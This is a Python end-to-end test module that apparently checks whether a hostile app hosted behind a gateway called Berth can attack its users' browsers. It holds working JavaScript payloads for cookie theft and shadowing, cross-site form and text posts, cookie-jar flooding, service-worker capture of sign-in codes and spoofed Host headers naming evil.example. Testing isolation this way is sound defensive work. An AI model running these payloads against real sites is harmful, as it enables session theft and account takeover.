"""Attacks by an app in the browser of its user. Each returns whether it succeeded."""

import contextlib
import json
import socket
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Error, Page

from tests.e2e.hostile_server import SECRET
from tests.e2e.hostile_world import EVIL, World
from tests.waiting import wait_until

Try = Callable[[World], bool]
BY_HOST, BY_PORT = "by host", "by port"


@dataclass(frozen=True, slots=True)
class Attempt:
    title: str
    attack: Try
    # Leaves the browser changed: the next one gets a new browser.
    spoils: bool
    # Where it succeeds in Berth, and the session page says so.
    known: frozenset[str]


ATTEMPTS: list[Attempt] = []


def attempt(title: str, *, spoils: bool = False, known: tuple[str, ...] = ()) -> Callable[[Try], Try]:
    def add(attack: Try) -> Try:
        ATTEMPTS.append(Attempt(title, attack, spoils, frozenset(known)))
        return attack

    return add


# The portal: its cookie, its pages, its API


@attempt("A script reads the portal's cookie")
def reads_cookie(world: World) -> bool:
    return world.session_value in world.run("document.cookie")


@attempt("The server of the app receives the portal's cookie")
def receives_cookie(world: World) -> bool:
    world.run("grab('page')")
    return world.session_value in world.logged(world.hostile_tab)


@attempt("A script fetches the portal's API with the person's cookie and reads the answer")
def reads_api(world: World) -> bool:
    return world.email in world.run("url => grab(url)", f"{world.portal}/api/v1/me/")


@attempt("A page loads an answer of the API as a script")
def loads_api_as_script(world: World) -> bool:
    return bool(world.run(LOADED_SCRIPT, f"{world.portal}/api/v1/me/"))


@attempt("A page shows the portal in a frame")
def frames_portal(world: World) -> bool:
    return frames(world, f"{world.portal}/api/v1/me/", world.email)


@attempt("A script opens the portal in a window and reads its document")
def reads_window(world: World) -> bool:
    return bool(world.run(WINDOW_TEXT, f"{world.portal}/api/v1/me/"))


@attempt("A script reads what the portal's pages keep in localStorage")
def reads_storage(world: World) -> bool:
    page = world.context.new_page()
    page.goto(f"{world.portal}/api/v1/me/")
    page.evaluate("localStorage.setItem('kept', 'by the portal')")
    page.close()
    return world.run("localStorage.getItem('kept')") == "by the portal"


@attempt("A form of the app posts to the portal: a new API token")
def posts_form(world: World) -> bool:
    return has_effect(world, POSTED_FORM, f"{world.portal}/profile/tokens/")


@attempt("A script posts JSON to the portal's API, as text so that nobody is asked before")
def posts_json(world: World) -> bool:
    return has_effect(world, POSTED_TEXT, f"{world.portal}/api/v1/keypairs/")


@attempt("A script opens a terminal of another session by the portal's websocket")
def opens_terminal(world: World) -> bool:
    return world.run(WEBSOCKET, websocket_url(world.portal) + world.terminal) != ""


# The person's other app, and somebody else's


@attempt("A script fetches another app, which lets every origin read, with the person's cookie")
def reads_other_app(world: World) -> bool:
    return SECRET in world.run("url => grab(url)", f"{world.target}/secret")


@attempt("A page loads a script of another app, and with it what it holds")
def loads_other_script(world: World) -> bool:
    world.run(LOADED_SCRIPT, f"{world.target}/secret.js")
    return bool(world.run("window.stolen || ''") == SECRET)


@attempt("A form of the app posts to another app")
def posts_to_other_app(world: World) -> bool:
    world.run(POSTED_FORM, f"{world.target}/write")
    return any(entry["method"] == "POST" for entry in settled_log(world))


@attempt("A script opens a websocket to another app")
def opens_other_websocket(world: World) -> bool:
    return SECRET in world.run(WEBSOCKET, websocket_url(world.target) + "/ws")


@attempt("A page shows another app in a frame")
def frames_other_app(world: World) -> bool:
    return frames(world, f"{world.target}/secret", SECRET)


@attempt("A script opens another app in a window and reads its document")
def reads_other_window(world: World) -> bool:
    return bool(world.run(WINDOW_TEXT, f"{world.target}/secret"))


@attempt("A page sends another app a blind GET, without saying where from", known=(BY_PORT,))
def sends_blind_get(world: World) -> bool:
    world.run(BLIND_GET, f"{world.target}/blind")
    return any("/blind" in str(entry["path"]) for entry in settled_log(world))


@attempt("The person's browser is led to an app of somebody else")
def opens_somebody_elses(world: World) -> bool:
    return SECRET in world.visited(f"{world.other}/secret")


# Cookies that confuse


@attempt("The server of the app sets a cookie with the name of the portal's", spoils=True)
def sets_portal_cookie(world: World) -> bool:
    world.run("header => grab(say([header]))", f"Set-Cookie: berth_session={EVIL}; Path=/; Max-Age=600")
    return world.email not in world.who()


@attempt("A script sets it", spoils=True)
def sets_portal_cookie_by_script(world: World) -> bool:
    return is_confused(world, f"berth_session={EVIL}; path=/")


@attempt("A script sets it for a longer path, which browsers send first", spoils=True)
def sets_cookie_by_path(world: World) -> bool:
    return is_confused(world, f"berth_session={EVIL}; path=/api")


@attempt("A script sets it for the whole domain", spoils=True)
def sets_cookie_by_domain(world: World) -> bool:
    return is_confused(world, f"berth_session={EVIL}; path=/api; domain={parent_of(world.hostile)}")


@attempt("A script puts a cookie in the place of another app's sign-in", spoils=True)
def shadows_door_cookie(world: World) -> bool:
    domain = parent_of(world.hostile)
    for rest in ("path=/secret", "path=/target/secret", f"path=/secret; domain={domain}"):
        world.run("text => { document.cookie = text }", f"{world.door_cookie}={EVIL}; {rest}")
        world.run("text => { document.cookie = text }", f"={world.door_cookie}={EVIL}; {rest}")
    return SECRET not in world.target_tab.evaluate("grab('secret')")


@attempt("A script puts a cookie in the place of one that another app set HttpOnly", spoils=True)
def shadows_app_cookie(world: World) -> bool:
    world.target_tab.evaluate("grab(say(['Set-Cookie: login=good; HttpOnly; Path=/']))")
    domain = parent_of(world.hostile)
    for rest in ("path=/whoami", "path=/target/whoami", f"path=/whoami; domain={domain}"):
        world.run("text => { document.cookie = text }", f"login={EVIL}; {rest}")
    world.target_tab.evaluate("grab('whoami')")
    return not last_cookie(world).startswith("login=good")


@attempt("The server of the app receives a cookie that another app set HttpOnly", spoils=True)
def receives_app_cookie(world: World) -> bool:
    world.target_tab.evaluate("grab(say(['Set-Cookie: login=treasure; HttpOnly; Path=/']))")
    world.run("grab('page')")
    return "treasure" in world.logged(world.hostile_tab)


@attempt("A script reads a cookie that another app leaves open to scripts", spoils=True, known=(BY_PORT,))
def reads_app_cookie(world: World) -> bool:
    world.target_tab.evaluate("grab(say(['Set-Cookie: theme=treasure; Path=/']))")
    return "treasure" in world.run("document.cookie")


@attempt("A script fills the jar until the portal cannot be opened any more", spoils=True)
def floods_portal(world: World) -> bool:
    world.run(FLOOD, parent_of(world.hostile))
    return not can_get_to_portal(world)


@attempt("A script fills the jar until another app cannot be opened any more", spoils=True)
def floods_other_app(world: World) -> bool:
    world.run(FLOOD, parent_of(world.hostile))
    return not can_get_to_target(world)


@attempt("The server of the app fills it with cookies that no script can throw away", spoils=True)
def floods_by_server(world: World) -> bool:
    world.run(FLOOD_BY_SERVER)
    return not can_get_to_portal(world)


@attempt("The server of the app has the jar emptied by Clear-Site-Data", spoils=True)
def clears_site_data(world: World) -> bool:
    world.run("""() => grab(say(['Clear-Site-Data: "cookies"']))""")
    return world.email not in world.who()


# The way in


@attempt("A service worker of the app redeems the sign-in code that passes by", spoils=True)
def redeems_by_worker(world: World) -> bool:
    """Under a plain address browsers have no service workers; there a script tries it with a code that it was told."""
    if not world.run(REGISTERED):
        return bool(world.run(FETCHED_TYPE, callback_of(world)) == "opaqueredirect")
    world.context.clear_cookies(name=world.hostile_door_cookie)
    text = world.visited(f"{world.hostile}/callback?code=c" if world.is_careless else f"{world.hostile}/page")
    assert text.startswith("seen:"), f"The service worker saw nothing: {text}"
    return bool(json.loads(text.removeprefix("seen:"))["type"] == "opaqueredirect")


@attempt("A code that the app saw is redeemed in another browser", spoils=True)
def redeems_elsewhere(world: World) -> bool:
    url = callback_of(world)
    elsewhere = world.browser.new_context()
    page = elsewhere.new_page()
    try:
        page.goto(f"{world.hostile}/page")  # a state of its own
        page.goto(url)
        return page.inner_text("body") == "app"
    finally:
        elsewhere.close()


@attempt("A sign-in that the app began for itself sends the code to an address of its choice", spoils=True)
def diverts_code(world: World) -> bool:
    place = urlsplit(world.target)
    door = f"door={place.port}" if world.is_by_port else f"host={(place.hostname or '').partition('.')[0]}"
    query = f"{door}&state={'0' * 64}&next={world.hostile}/page"
    page = world.context.new_page()
    page.goto(f"{world.portal}/apps/authorize/?{query}")
    page.wait_for_load_state()
    page.close()
    return any("code=" in str(entry) for entry in world.log(world.hostile_tab))


@attempt("A script asks for the gateway's own places, and the app answers in its stead")
def forges_own_place(world: World) -> bool:
    world.run("grab(new URL('.berth/callback2', location.href))")
    return ".berth" in world.logged(world.hostile_tab)


@attempt("A request with the person's cookie names another host, two hosts, or none")
def tricks_host(world: World) -> bool:
    place = urlsplit(world.target)
    host, path = place.netloc, f"{place.path}/secret"
    cookies = "; ".join(
        f"{cookie['name']}={cookie['value']}" for cookie in world.context.cookies(world.target)
    )
    heads = (
        f"GET {path} HTTP/1.1\r\nHost: rebound.example:{place.port}\r\n",
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n",
        f"GET http://evil.example{path} HTTP/1.1\r\nHost: {host}\r\n",
        f"GET {path} HTTP/1.1\r\nHost: {host}@evil.example\r\n",
        f"GET {path} HTTP/1.0\r\n",
    )
    return any(SECRET in exchange(world, f"{head}Cookie: {cookies}\r\n") for head in heads)


@attempt("A script claims by headers to come from elsewhere, and the app believes it")
def spoofs_forwarded(world: World) -> bool:
    world.run("grab('page', { headers: { 'X-Forwarded-For': '203.0.113.9', Forwarded: 'for=203.0.113.9' } })")
    return "203.0.113.9" in world.logged(world.hostile_tab)


@attempt("What the app left in the browser's cache is served for the next app of its port", known=(BY_HOST,))
def poisons_cache(world: World) -> bool:
    """A host is never given to another app, so there an app may keep what it likes."""
    script = "grab(say(['Cache-Control: max-age=31536000'], '&body=poison'))"
    for _ in range(2):
        world.run(script)
    entries = [entry for entry in world.log(world.hostile_tab) if "poison" in str(entry["path"])]
    return len(entries) == 1


# How they are done

LOADED_SCRIPT = """url => soon(new Promise((done) => {
  const script = Object.assign(document.createElement("script"), { src: url });
  script.onload = () => done(true);
  script.onerror = () => done(false);
  document.head.append(script);
}), false)"""
WINDOW_TEXT = """url => soon((async () => {
  const view = window.open(url);
  if (!view) throw new Error("no window");
  try {
    for (;;) {  // the empty page before it may be read; another origin's throws
      if (view.document.body?.innerText) return view.document.body.innerText;
      await new Promise((done) => setTimeout(done, 50));
    }
  } catch { return ""; } finally { view.close(); }
})())"""
POSTED_FORM = """url => {
  const form = Object.assign(document.createElement("form"), { method: "POST", action: url });
  form.innerHTML = '<input name="name" value="evil"><input name="scopes" value="read"><input name="life" value="7">';
  const frame = Object.assign(document.createElement("iframe"), { name: "into" + Math.random() });
  form.target = frame.name;
  document.body.append(frame, form);
  const loaded = new Promise((done) => { frame.onload = done; });
  form.submit();
  return soon(loaded.then(() => true));
}"""
POSTED_TEXT = """url => soon(fetch(url, {
  method: "POST", mode: "no-cors", credentials: "include", body: '{"name": "evil"}',
  headers: { "Content-Type": "text/plain" },
}).then(() => true))"""
WEBSOCKET = """url => soon(new Promise((done) => {
  const socket = new WebSocket(url);
  socket.onmessage = (event) => { done(String(event.data)); socket.close(); };
  socket.onerror = socket.onclose = () => done("");
}))"""
FRAMED = """url => soon(new Promise((done) => {
  document.body.append(Object.assign(document.createElement("iframe"), { src: url, onload: () => done(true) }));
}))"""
BLIND_GET = """url => soon(fetch(url, {
  mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer",
}).then(() => true))"""
REGISTERED = """async () => {
  if (!navigator.serviceWorker) return false;
  const scope = new URL(".", location.href).pathname;
  await navigator.serviceWorker.register("sw.js", { scope });
  await navigator.serviceWorker.ready;
  return true;
}"""
FETCHED_TYPE = (
    "url => soon(fetch(url, { credentials: 'include', redirect: 'manual' }).then((answer) => answer.type))"
)
FLOOD = """domain => {
  for (const where of ["", "; domain=" + domain])
    for (let number = 0; number < 180; number++)
      document.cookie = "flood" + number + "=" + "x".repeat(3500) + "; path=/; max-age=600" + where;
}"""
# One after another, and again where no answer comes: of what Chromium gives up when an interface comes or goes, no cookie is kept.
FLOOD_BY_SERVER = """async () => {
  for (let round = 0; round < 8; round++) {
    const cookies = [...Array(6).keys()].map((number) =>
      `Set-Cookie: f${round}x${number}=${"x".repeat(1800)}; Path=/; HttpOnly; Max-Age=600`);
    for (let tries = 0; tries < 5; tries++)
      if ((await grab(say(cookies, "&body=set"))) === "set") break;
  }
}"""


def frames(world: World, url: str, text: str) -> bool:
    """Whether a frame of the hostile page comes to show the text."""
    world.run(FRAMED, url)
    children = [frame for frame in world.hostile_tab.frames[1:] if not frame.name]
    return any(text in frame.inner_text("body") for frame in children)


def has_effect(world: World, script: str, url: str) -> bool:
    """Whether a request that the script sends for certain changes something at the portal."""
    before = world.effects()
    with world.context.expect_event("request", predicate=lambda request: request.url == url):
        world.run(script, url)
    return bool(world.effects() > before)


def is_confused(world: World, cookie: str) -> bool:
    """Whether the portal takes the person for somebody else, or for nobody, once a script has set this cookie."""
    world.run("text => { document.cookie = text }", cookie)
    return world.email not in world.who()


def settled_log(world: World) -> list[dict[str, object]]:
    """What the other app was asked, with everything that was on its way: its own request comes last."""
    world.target_tab.evaluate("grab('settled')")
    return [entry for entry in world.log(world.target_tab) if "settled" not in str(entry["path"])]


def last_cookie(world: World) -> str:
    headers = world.log(world.target_tab)[-1]["headers"]
    return next((str(value) for name, value in headers if name == "cookie"), "")


def can_get_to_portal(world: World) -> bool:
    """Whether the person, who may have to sign in again, sees a page of the portal."""
    page = world.context.new_page()
    try:
        return comes_to_show(
            page, f"{world.portal}/", "Start", "Sign in", '"email"', within_ms=patience_ms(world)
        )
    finally:
        page.close()


def can_get_to_target(world: World) -> bool:
    page = world.context.new_page()
    try:
        return comes_to_show(page, f"{world.target}/secret", SECRET, "Sign in", within_ms=patience_ms(world))
    finally:
        page.close()


def patience_ms(world: World) -> int:
    """Where nothing helps the person, nothing is waited for."""
    return 2_000 if world.is_careless else 30_000


def comes_to_show(page: Page, url: str, *texts: str, within_ms: int) -> bool:
    """Whether the page comes to show one of the texts."""
    try:
        page.goto(url)
        shows = "texts => texts.some((text) => document.body?.innerText.includes(text))"
        page.wait_for_function(shows, arg=list(texts), timeout=within_ms)
    except Error:
        return False
    return True


def callback_of(world: World) -> str:
    """The address with a fresh code for the hostile app, at which the browser was stopped."""
    if world.is_careless:
        return f"{world.hostile}/callback?code=c"
    world.context.clear_cookies(name=world.hostile_door_cookie)
    page = world.context.new_page()
    browser = world.context.new_cdp_session(page)
    seen: list[str] = []

    def stop(event: dict[str, Any]) -> None:
        seen.append(event["request"]["url"])
        browser.send("Fetch.failRequest", {"requestId": event["requestId"], "errorReason": "Aborted"})

    # Unlike a route of Playwright this stops redirects too.
    browser.on("Fetch.requestPaused", stop)
    browser.send("Fetch.enable", {"patterns": [{"urlPattern": "*/.berth/callback?*"}]})
    with contextlib.suppress(Error):
        page.goto(f"{world.hostile}/page")
    wait_until(lambda: page.wait_for_timeout(20) or seen, deadline_s=60)
    page.close()
    return seen[0]


def parent_of(url: str) -> str:
    """The widest domain that a page there may name."""
    host = urlsplit(url).hostname or ""
    return host.partition(".")[2] if host.endswith("localhost") else host


def websocket_url(url: str) -> str:
    return url.replace("http", "ws", 1)


def exchange(world: World, head: str) -> str:
    """What the server that the app's host leads to answers to these bytes."""
    place = urlsplit(world.target)
    host = "127.0.0.1" if (place.hostname or "").endswith("localhost") else place.hostname
    with socket.create_connection((host, place.port), timeout=10) as connection:
        connection.sendall((head + "Connection: close\r\n\r\n").encode())
        parts = []
        while part := connection.recv(65536):
            parts.append(part)
    return b"".join(parts).decode(errors="replace")
